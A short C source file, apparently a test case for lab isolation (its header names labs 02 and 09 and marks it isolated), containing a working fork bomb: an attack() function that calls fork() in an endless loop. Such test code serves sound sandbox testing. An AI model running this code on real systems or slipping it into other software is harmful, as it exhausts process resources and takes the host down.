/* Attack: a fork bomb.
 * Labs: 02 09
 * Tests: results
 * Isolated: yes */
#include <unistd.h>

static void attack(void)
{
    for (;;)
        fork();
}
